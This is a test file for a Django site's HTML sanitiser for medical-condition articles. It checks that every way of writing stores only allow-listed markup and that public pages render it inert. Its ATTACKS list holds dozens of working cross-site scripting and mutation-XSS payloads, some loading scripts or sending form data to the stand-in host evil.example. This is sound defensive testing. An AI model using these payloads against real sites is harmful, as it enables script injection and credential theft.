"""Rich text: whatever is written, only the allow-list is stored, by every way of writing."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from django.db import connection
from hypothesis import example, given, settings
from hypothesis import strategies as st

from conditions import workflow
from conditions.html import sanitise
from conditions.models import Condition, Revision, Section
from conditions.templatetags.articles import prose
from tests.factories import make_condition, make_draft, take_live
from tests.pages import Page, read

# Around each table, so that a keyboard can scroll it.
TABLE_BOX = ("div", {"class": "table-box", "role": "group", "aria-label": "Table", "tabindex": "0"})
ALLOWED = {
    "a": {"href"},
    "ol": {"start"},
    "th": {"scope", "colspan", "rowspan"},
    "td": {"colspan", "rowspan"},
    **{name: set() for name in ("p", "h3", "ul", "li", "blockquote", "br", "strong", "em")},
    **{name: set() for name in ("table", "thead", "tbody", "tr")},
}
DANGEROUS = {"script", "style", "svg", "math", "iframe", "object", "embed", "base", "template", "textarea", "video"}
# Each tries to run alert(1), to load something, or to look like another part of the page.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</p>*/alert(1)",
    "<p onclick=alert(1)>x</p>",
    '<a href="/" onmouseover="alert(1)">x</a>',
    "<strong/onfocus=alert(1)/autofocus/tabindex=1>x",
    "<p\nonpointerenter\n=\nalert(1)>x",
    '<img src=x onerror="alert(1)">',
    "<img src=//evil.example/pixel.gif>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://evil.example/1">x</a>',
    '<a href="/" target="_blank" ping="//evil.example" style="position:fixed;inset:0" class="banner" id="main">x</a>',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p id='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p id='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p id='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<table><td><svg><desc><td></table><script>alert(1)</script>",
    '<a href="x"><table><a href="javascript:alert(1)">x</a></table></a>',
    '<p title="`<script>alert(1)</script>`">x</p>',
    "<p><<script>alert(1)//<</script></p>",
]
FRAGMENTS = st.one_of(
    st.sampled_from(ATTACKS),
    st.sampled_from([f"<{name}>" for name in ALLOWED] + [f"</{name}>" for name in ALLOWED]),
    st.sampled_from(["<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<!--", "-->", "<template>"]),
    st.sampled_from(['<a href="', '<p title="', '">', "'", "&lt;", "&amp;", "&nbsp;", "&#13;", "&", " ", "\n"]),
    st.text(max_size=6),
)
MIXTURES = st.lists(FRAGMENTS, max_size=8).map("".join)


class Elements(HTMLParser):
    """Collects every element and comment of a text, as (name, attributes) pairs."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append((f"!{data}", {}))

    handle_decl = handle_pi = unknown_decl = handle_comment


def forbidden(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements of ``html`` that do not belong into an article, or that lead somewhere unsafe."""
    return [
        (name, attributes)
        for name, attributes in Elements(html).found
        if name not in ALLOWED or attributes.keys() - ALLOWED[name] or not leads_to_a_page(attributes.get("href"))
    ]


def leads_to_a_page(href: str | None) -> bool:
    """Whether a browser, which drops spaces in front and line breaks anywhere, takes ``href`` for an ordinary link."""
    address = re.sub(r"[\t\n\r]", "", (href or "").lstrip("".join(map(chr, range(33)))))
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", address.lower())
    return scheme is None or scheme[1] in {"http", "https", "mailto"}


def stored_body(section_pk: int) -> str:
    with connection.cursor() as cursor:
        cursor.execute("SELECT body FROM conditions_section WHERE id = %s", [section_pk])
        return cursor.fetchone()[0]


@pytest.fixture
def draft(db) -> Revision:
    return make_draft()


# What the list lets through


TABLE_WITH_COLUMN_HEADS = '<table><tbody><tr><th scope="col">A</th></tr><tr><td>1</td></tr></tbody></table>'


def test_what_the_editor_makes_stays_as_it_is():
    text = (
        '<h3>Why?</h3><p>One <strong>bold</strong> and <em>slanted</em><br>word, <a href="/en/conditions/x/">here</a>, '
        '<a href="https://example.org/?a=1&amp;b=2">there</a>, <a href="mailto:help@example.org">mail</a>.</p>'
        '<ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>c</p></blockquote>'
        '<table><thead><tr><th scope="col">A</th><th scope="col" colspan="2">B</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>2</td><td>3 &lt; 4</td></tr></tbody></table>'
    )

    assert sanitise(text) == text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<div><p>kept</p></div>", "<p>kept</p>"),
        ('<p class="x" id="y" data-z="1" style="color:red">kept</p>', "<p>kept</p>"),
        ("<h1>kept</h1>", "kept"),
        ("<p>a<script>gone</script>b<style>gone</style>c</p>", "<p>abc</p>"),
        ("<p>a<!-- gone -->b</p>", "<p>ab</p>"),
        ('<a href="javascript:alert(1)">kept</a>', "<a>kept</a>"),
        ('<a href="https://example.org" target="_blank">kept</a>', '<a href="https://example.org">kept</a>'),
        ('<a href="gout">kept</a>', "<a>kept</a>"),
        ('<a href="#causes-20">kept</a>', '<a href="#causes-20">kept</a>'),
        ("<p>a&#13;b\r\nc</p>", "<p>a\nb\nc</p>"),
        ("a < b & c", "a &lt; b &amp; c"),
        ("  <p>x</p>\n", "<p>x</p>"),
        ('<p title="gone" lang="de">kept</p>', "<p>kept</p>"),
        ("<p>\x00<scr\x00ipt>kept</scr\x00ipt></p>", "<p>kept</p>"),
        (
            '<table><tbody><tr><th scope="col&quot; onclick=&quot;alert(1)">kept</th></tr></tbody></table>',
            '<table><tbody><tr><th scope="col">kept</th></tr></tbody></table>',
        ),
        ("<table><tr><td>A</td></tr><tr><td>1</td></tr></table>", TABLE_WITH_COLUMN_HEADS),
        ("<table><tr><th scope=row>A</th></tr><tr><td>1</td></tr></table>", TABLE_WITH_COLUMN_HEADS),
        (
            "<table><tr><td></td><th>A</th></tr><tr><th>B</th><td>1</td></tr></table>",
            '<table><tbody><tr><td></td><th scope="col">A</th></tr>'
            '<tr><th scope="row">B</th><td>1</td></tr></tbody></table>',
        ),
    ],
)
def test_sanitise(html, text):
    assert sanitise(html) == text


@pytest.mark.parametrize(
    "html", ["", "  ", "<p></p>", "<p><br></p>", "<h3></h3>", "<script>x</script>", "<p>&nbsp;</p><ul></ul>"]
)
def test_text_without_words_is_empty(html):
    assert sanitise(html) == ""


# What it stops


def test_the_yardstick_sees_every_attack():
    assert [attack for attack in ATTACKS if not forbidden(attack)] == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_sanitise_makes_attacks_inert(attack):
    assert forbidden(sanitise(attack)) == []


@pytest.mark.parametrize("name", ALLOWED)
def test_elements_keep_no_attributes_but_their_own(name):
    attributes = (
        "onclick",
        "onload",
        "style",
        "class",
        "id",
        "name",
        "target",
        "src",
        "srcset",
        "formaction",
        "download",
    )
    element = " ".join([f"<{name}", *(f'{attribute}="x"' for attribute in attributes), ">x"])

    kept = Elements(sanitise(f"<table>{element}" if name.startswith("t") else element)).found

    if name in ("th", "td"):
        # The only row of a table heads its columns.
        assert kept == [*((part, {}) for part in ("table", "tbody", "tr")), ("th", {"scope": "col"})]
        return
    assert (name, {}) in kept
    assert [found for _name, found in kept if found] == []


@settings(deadline=None, max_examples=300)
@given(MIXTURES)
def test_sanitise_makes_mixtures_inert(html):
    assert forbidden(sanitise(html)) == []


@settings(deadline=None, max_examples=300)
@given(MIXTURES)
@example("<table><tr><td><table><td><svg><desc><td></table>x")
def test_sanitise_is_idempotent(html):
    once = sanitise(html)

    assert sanitise(once) == once


# Every way of writing


def saved(draft: Revision, body: str) -> int:
    section = Section(revision=draft, heading="?", body=body)
    section.save()
    return section.pk


def created_in_bulk(draft: Revision, body: str) -> int:
    [section] = Section.objects.bulk_create([Section(revision=draft, heading="?", body=body)])
    return section.pk


def updated(draft: Revision, body: str) -> int:
    section = draft.sections.get()
    Section.objects.filter(pk=section.pk).update(body=body)
    return section.pk


def updated_in_bulk(draft: Revision, body: str) -> int:
    section = draft.sections.get()
    section.body = body
    Section.objects.bulk_update([section], ["body"])
    return section.pk


def upserted(draft: Revision, body: str) -> int:
    section = draft.sections.get()
    section.body = body
    Section.objects.bulk_create([section], update_conflicts=True, unique_fields=["id"], update_fields=["body"])
    return section.pk


def written_by_the_workflow(draft: Revision, body: str) -> int:
    workflow.write_draft(draft, {}, [Section(heading="?", body=body)], [])
    return draft.sections.get().pk


def copied_by_the_workflow(draft: Revision, body: str) -> int:
    """A text that came into the table past the application is clean again in the next draft."""
    with connection.cursor() as cursor:
        cursor.execute("UPDATE conditions_section SET body = %s WHERE revision_id = %s", [body, draft.pk])
    take_live(draft)
    return workflow.open_draft(draft.article).sections.get().pk


WAYS = [saved, created_in_bulk, updated, updated_in_bulk, upserted, written_by_the_workflow]


@pytest.mark.parametrize("way", WAYS)
def test_every_way_of_writing_stores_attacks_inert(draft, way: Callable[[Revision, str], int]):
    for attack in ATTACKS:
        stored = stored_body(way(draft, f"<p>before</p>{attack}"))

        assert stored.startswith("<p>before</p>")
        assert forbidden(stored) == []


def test_copying_a_text_stores_it_sanitised(draft):
    stored = stored_body(copied_by_the_workflow(draft, "<p onclick=alert(1)>x</p><script>alert(1)</script>"))

    assert stored == "<p>x</p>"


def test_nul_bytes_do_not_reach_the_database(draft):
    assert stored_body(saved(draft, "<p>a\x00b</p>")) == "<p>ab</p>"


# On the page


def page_with(client, *sections: Section) -> Page:
    condition = make_condition()
    draft = make_draft(condition)
    workflow.write_draft(draft, {}, sections, [(source, None) for source in draft.sources.all()])
    take_live(draft)
    return read(client.get(condition.get_absolute_url()))


def test_public_page_shows_attacks_inert(client, db):
    page = page_with(client, *[Section(heading=attack, body=f"<p>text</p>{attack}") for attack in ATTACKS])

    assert len(page.with_class("prose")) == len(ATTACKS)
    # The page has a text box of its own, for what readers say about the article.
    assert {name for name, _attributes in page.elements} & (DANGEROUS - {"script", "textarea"}) == set()
    assert [attributes["id"] for attributes in page.all("textarea")] == ["helpful-comment"]
    assert page.foreign_scripts() == []
    assert page.inline_code() == []
    assert [address for _name, address in page.addresses() if not leads_to_a_page(address)] == []


def test_public_page_cleans_what_came_into_the_table_past_the_application(client, db):
    draft = make_draft()
    with connection.cursor() as cursor:
        cursor.execute("UPDATE conditions_section SET body = %s", ["<p onclick=alert(1)>changed</p><script>x</script>"])
    take_live(draft)

    page = read(client.get(Condition.objects.get().get_absolute_url()))

    assert "changed" in page.text
    assert (page.foreign_scripts(), page.inline_code()) == ([], [])


def test_public_page_puts_tables_in_boxes_that_a_keyboard_can_scroll(client, db):
    table = "<table><tbody><tr><td>1</td></tr></tbody></table>"

    page = page_with(client, Section(heading="?", body=f"<p>a</p>{table}<p>b</p>{table}"))

    box = {"class": "table-box", "role": "group", "aria-label": "Table", "tabindex": "0"}
    assert page.with_class("table-box") == [box, box]
    assert prose(f"{table}<p>b</p>").count("</div>") == 1
